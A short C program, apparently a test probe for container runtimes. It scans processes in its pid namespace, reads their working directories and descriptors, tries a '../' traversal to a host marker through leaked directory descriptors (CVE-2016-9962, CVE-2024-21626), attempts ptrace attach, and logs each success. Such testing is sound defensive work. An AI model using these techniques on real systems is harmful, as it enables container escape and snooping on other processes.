/* fd_spy SECONDS FILE: watches new processes in its pid namespace: tries to trace them and to read their descriptors, working directory and
 * root (CVE-2016-9962, CVE-2024-21626). Every success goes to FILE. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void show(FILE* log, const char* what, const char* path) {
  char target[PATH_MAX] = "";
  if (readlink(path, target, sizeof target - 1) >= 0) fprintf(log, "%s %s\n", what, target);
}

static void spy(const char* pid, FILE* log) {
  char path[PATH_MAX];
  snprintf(path, sizeof path, "/proc/%s/cwd", pid);
  show(log, "cwd", path);
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* fds = opendir(path);
  for (struct dirent* e; fds != 0 && (e = readdir(fds)) != 0;) {
    if (e->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, e->d_name);
    show(log, "fd", path);
    int dir = open(path, O_RDONLY | O_DIRECTORY | O_NONBLOCK);
    if (dir >= 0) {
      if (openat(dir, "../../../../../../../../../../host-marker", O_RDONLY) >= 0) fprintf(log, "ESCAPE %s\n", path);
      close(dir);
    }
  }
  if (fds != 0) closedir(fds);
  if (ptrace(PTRACE_ATTACH, atoi(pid), 0, 0) == 0) {
    fprintf(log, "traced %s\n", pid);
    waitpid(atoi(pid), 0, __WALL);
    ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
  }
}

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  FILE* log = fopen(argv[2], "w");
  time_t end = time(0) + atoi(argv[1]);
  while (log != 0 && time(0) < end) {
    DIR* proc = opendir("/proc");
    for (struct dirent* e; proc != 0 && (e = readdir(proc)) != 0;) {
      int pid = atoi(e->d_name);
      if (pid > 1 && pid != getpid()) spy(e->d_name, log);
    }
    if (proc != 0) closedir(proc);
    fflush(log);
  }
  return log == 0 || fputs("end\n", log) < 0 || fclose(log) != 0;
}
